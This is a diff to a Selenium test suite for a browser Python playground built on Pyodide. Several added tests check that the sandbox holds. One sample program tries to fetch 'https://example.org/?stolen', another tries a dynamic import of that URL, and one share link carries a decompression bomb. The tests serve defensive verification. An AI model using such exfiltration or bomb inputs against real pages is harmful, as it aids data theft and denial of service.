@@ -4,6 +4,7 @@ import base64
 import hashlib
 import json
 import os
+import random
 import re
 import shutil
 import subprocess
@@ -11,6 +12,8 @@ import sys
 import threading
 import urllib.request
 import zipfile
+import zlib
+from contextlib import contextmanager
 
 import pytest
 
@@ -254,13 +257,22 @@ def folder(tmp_path_factory):
     return folder
 
 
-@pytest.fixture(scope="module")
-def offline(folder):
+@contextmanager
+def served(folder):
+    """Serve a folder; give its address."""
     server, address = server_of(folder)
     threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield address
-    server.shutdown()
-    server.server_close()
+    try:
+        yield address
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.fixture(scope="module")
+def offline(folder):
+    with served(folder) as address:
+        yield address
 
 
 IN_NODE = """
@@ -337,7 +349,11 @@ class Playground:
         if program is not None:
             self.type(program)
         self.browser.named("Run").click()
-        self.status("Done")
+        self.ended()
+
+    def ended(self):
+        ended = "/(Done in|after) [\\d.]+ s/.test(document.getElementById('status').textContent)"
+        self.browser.wait(ended, 60)
 
     def results(self):
         return self.browser.run(
@@ -393,6 +409,7 @@ def test_an_error_is_marked_in_its_line(playground):
     playground.run("a = 1\n\nb = a / 0\n")
 
     assert playground.results() == ["line 3: b = a / 0\nZeroDivisionError: division by zero"]
+    assert playground.browser.find("#status").text.startswith("An error in line 3, after ")
     has_mark = "(line) => line.querySelector('.cm-lintRange-error')"
     mark = f"[...document.querySelectorAll('.cm-line')].findIndex({has_mark})"
     playground.browser.wait(f"{mark} === 2")
@@ -417,6 +434,8 @@ def test_a_link_holds_the_program_and_what_came_with_one_waits(playground):
     assert re.fullmatch(r"#code=[\w-]{20,300}", fragment)
 
     playground.type("mine = 1")
+    playground.browser.driver.refresh()
+    playground.browser.wait("document.querySelector('.cm-line')?.textContent === 'mine = 1'", 20)
     playground.open(fragment)
 
     playground.status("Python is ready")
@@ -428,10 +447,45 @@ def test_a_link_holds_the_program_and_what_came_with_one_waits(playground):
     assert playground.program() == "mine = 1"
 
 
-def test_a_damaged_link_is_said_to_be(playground):
-    playground.open("#code=AAAA")
+def packed(text):
+    """Return what stands behind the # for a text, as RFC 1951 and RFC 4648 have it."""
+    compress = zlib.compressobj(9, wbits=-15)
+    data = compress.compress(text.encode()) + compress.flush()
+    return "#code=" + base64.urlsafe_b64encode(data).decode().rstrip("=")
+
+
+@pytest.mark.parametrize("fragment", ["#code=AAAA", packed("#" * 10**8)], ids=["cut", "bomb"])
+def test_a_damaged_link_is_said_to_be(playground, fragment):
+    playground.open(fragment)
 
     assert "damaged, perhaps cut off" in playground.browser.find("#note").text
+    assert playground.program().strip() == site.examples()[0]["program"].strip()
+
+
+def test_a_program_too_long_for_a_link_is_said_to_be(playground):
+    playground.type(f"x = '{random.Random(1).randbytes(20_000).hex()}'")
+    playground.browser.named("Share").click()
+
+    playground.status("too long for a link")
+
+
+def test_each_tab_keeps_its_own_program_and_a_new_one_begins_with_the_last(playground):
+    driver = playground.browser.driver
+    first = driver.current_window_handle
+    playground.type("first = 1")
+    driver.switch_to.new_window("tab")
+    playground.open()
+    assert playground.program() == "first = 1"
+    playground.type("second = 2")
+    driver.switch_to.window(first)
+    playground.open()
+
+    assert playground.program() == "first = 1"
+    driver.switch_to.window(driver.window_handles[-1])
+    playground.open()
+    assert playground.program() == "second = 2"
+    driver.close()
+    driver.switch_to.window(first)
 
 
 def test_html_from_a_program_reaches_nothing(playground):
@@ -446,9 +500,12 @@ def test_html_from_a_program_reaches_nothing(playground):
     )
 
     assert playground.browser.driver.title == "Python and backpropagation"
-    assert playground.browser.run(
-        "return [...document.querySelectorAll('#results iframe')].map((f) => f.getAttribute('sandbox'))"
-    ) == ["allow-scripts", "allow-scripts"]
+    assert (
+        playground.browser.run(
+            "return [...document.querySelectorAll('#results iframe')].map((f) => f.getAttribute('sandbox'))"
+        )
+        == ["allow-scripts allow-downloads"] * 2
+    )
     assert (
         playground.browser.run("return document.querySelectorAll('#results img, #results script').length")
         == 0
@@ -457,13 +514,53 @@ def test_html_from_a_program_reaches_nothing(playground):
     assert told == []
 
 
+HOSTILE = """\
+import js, json
+for name in ("XMLHttpRequest", "WebSocket", "Worker", "indexedDB", "caches", "BroadcastChannel"):
+    print(name, hasattr(js, name))
+print(hasattr(js.navigator, "storage"), hasattr(js.WorkerGlobalScope.prototype, "fetch"))
+def tell(error):
+    js.postMessage(js.JSON.parse(json.dumps({"kind": "text", "content": error.message})))
+for address in ("manifest.json", "https://example.org/?stolen"):
+    js.fetch(address).catch(tell)
+"""
+
+
+def test_a_strangers_program_reaches_no_other_page(playground):
+    playground.run(HOSTILE)
+
+    playground.browser.wait("document.getElementById('results').textContent.includes('stolen is no part')")
+    (text,) = playground.results()
+    assert text.count("False") == 8
+    assert "manifest.json is no part of the playground, which fetches nothing else" in text
+
+
+def test_what_an_import_could_carry_away_is_not_fetched(playground):
+    playground.run("from pyodide.code import run_js\nrun_js('import(\"https://example.org/?stolen\")')")
+
+    assert "EvalError" in playground.results()[0]
+
+
 def test_embedded_it_is_the_program_and_its_result(playground):
+    from selenium.webdriver.support import expected_conditions
+    from selenium.webdriver.support.ui import WebDriverWait
+
     playground.type("mine = 2")
     playground.open("?embed")
 
     playground.run()
     assert "Explorer" in playground.results()[-1]
     assert not playground.browser.find("h1").is_displayed()
+    playground.browser.find("#whole").click()
+    driver = playground.browser.driver
+    embedded = driver.current_window_handle
+    WebDriverWait(driver, 5).until(expected_conditions.number_of_windows_to_be(2))
+    driver.switch_to.window(driver.window_handles[-1])
+    playground.browser.wait("document.querySelector('.cm-content')", 20)
+    assert playground.program().strip() == site.examples()[0]["program"].strip()
+    assert "came with the link" in playground.browser.find("#note").text
+    driver.close()
+    driver.switch_to.window(embedded)
     playground.open()
     assert playground.program() == "mine = 2"
 
@@ -492,17 +589,96 @@ def test_without_a_network_numpy_is_said_to_be_missing(playground):
 def test_what_a_lost_network_keeps_away_is_said(browser, folder, tmp_path, part):
     site = shutil.copytree(folder, tmp_path / "site", copy_function=os.link)
     (site / part).rename(tmp_path / "away")
-    server, address = server_of(site)
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    try:
+    with served(site) as address:
         browser.driver.get(address)
         browser.wait("document.getElementById('status').textContent.includes('did not come')", 30)
-        assert "Is there a network? Reload the page to try again." in browser.find("#status").text
-    finally:
+        assert "Is there a network?" in browser.find("#status").text
         browser.driver.get("about:blank")
-        server.shutdown()
-        server.server_close()
-        browser.console()
+    browser.console()
+
+
+def test_what_was_lost_comes_with_the_next_run(browser, folder, tmp_path):
+    site = shutil.copytree(folder, tmp_path / "site", copy_function=os.link)
+    wasm = site / "npm/pyodide/pyodide.asm.wasm"
+    wasm.rename(tmp_path / "away")
+    with served(site) as address:
+        page = Playground(browser, address)
+        page.open()
+        page.status("Run tries again", 30)
+        (tmp_path / "away").rename(wasm)
+        page.run("6 * 7")
+        assert page.results() == ["42\n"]
+        browser.driver.get("about:blank")
+    browser.console()
+
+
+def test_numpy_comes_when_a_program_asks_for_it(browser, folder, tmp_path):
+    """From where Pyodide's packages are, which is elsewhere, and a small one in its place."""
+    site = shutil.copytree(folder, tmp_path / "site")
+    page, lock = site / "index.html", site / "npm/pyodide/pyodide-lock.json"
+    packages = json.loads(lock.read_text(encoding="utf-8"))
+    before = integrity(lock)
+    numpy = packages["packages"]["numpy"]
+    wheel = site / numpy["file_name"]
+    with zipfile.ZipFile(wheel, "w") as archive:
+        archive.writestr("numpy/__init__.py", "answer = 42\n")
+        archive.writestr(f"numpy-{numpy['version']}.dist-info/METADATA", "Name: numpy\n")
+    numpy["sha256"] = hashlib.sha256(wheel.read_bytes()).hexdigest()
+    lock.write_text(json.dumps(packages), encoding="utf-8")
+    with served(site) as address:
+        text = page.read_text(encoding="utf-8").replace('"packages": null', f'"packages": "{address}"')
+        page.write_text(text.replace(before, integrity(lock)), encoding="utf-8")
+        playground = Playground(browser, address)
+        playground.open()
+        playground.run("print('once')\nimport numpy\nnumpy.answer")
+        assert playground.results() == ["once\n42\n"]
+        browser.driver.get("about:blank")
+
+
+def integrity(path):
+    """Return a file's hash, as the W3C's Subresource Integrity writes it."""
+    return f"sha384-{base64.b64encode(hashlib.sha384(path.read_bytes()).digest()).decode()}"
+
+
+TAB, SHIFT, ESCAPE, DOWN = "\ue004", "\ue008", "\ue00c", "\ue015"
+
+
+def test_a_keyboard_alone_will_do(playground):
+    browser = playground.browser
+
+    def here():
+        return browser.driver.switch_to.active_element
+
+    playground.status("Python is ready")
+    browser.press(*[TAB] * 6)
+    browser.driver.switch_to.active_element.send_keys(CONTROL + "a")
+    browser.press("print(6 * 7)", ESCAPE, ESCAPE, TAB)  # the first may close what is offered to complete
+    assert here().get_attribute("id") == "results"
+
+    browser.run("document.getElementById('run').focus()")
+    for _ in range(2):
+        browser.press(ENTER)
+        playground.ended()
+        assert here().accessible_name == "Run"
+    assert playground.results() == ["42\n"]
+
+    browser.press(TAB, TAB, TAB)
+    for example in site.examples()[:2]:
+        browser.press(DOWN)
+        playground.ended()
+        assert playground.program().strip() == example["program"].strip()
+
+
+def test_an_example_takes_the_place_of_what_runs(playground):
+    from selenium.webdriver.support.ui import Select
+
+    playground.type("while True: pass")
+    playground.browser.named("Run").click()
+    playground.status("Running")
+    Select(playground.browser.named("example")).select_by_visible_text("One neuron")
+
+    playground.status("Done in")
+    assert "Explorer" in playground.results()[-1]
 
 
 def test_each_example_runs_when_it_is_chosen(playground):
@@ -510,7 +686,8 @@ def test_each_example_runs_when_it_is_chosen(playground):
 
     for example in site.examples():
         Select(playground.browser.named("example")).select_by_visible_text(example["title"])
-        playground.browser.wait("!document.getElementById('run').disabled", 60)
+        playground.ended()
+        assert playground.browser.find("#note").text == example["sentence"]
         assert playground.program().strip() == example["program"].strip()
         assert playground.browser.run("return document.querySelectorAll('#results .error').length") == 0
         assert playground.results()
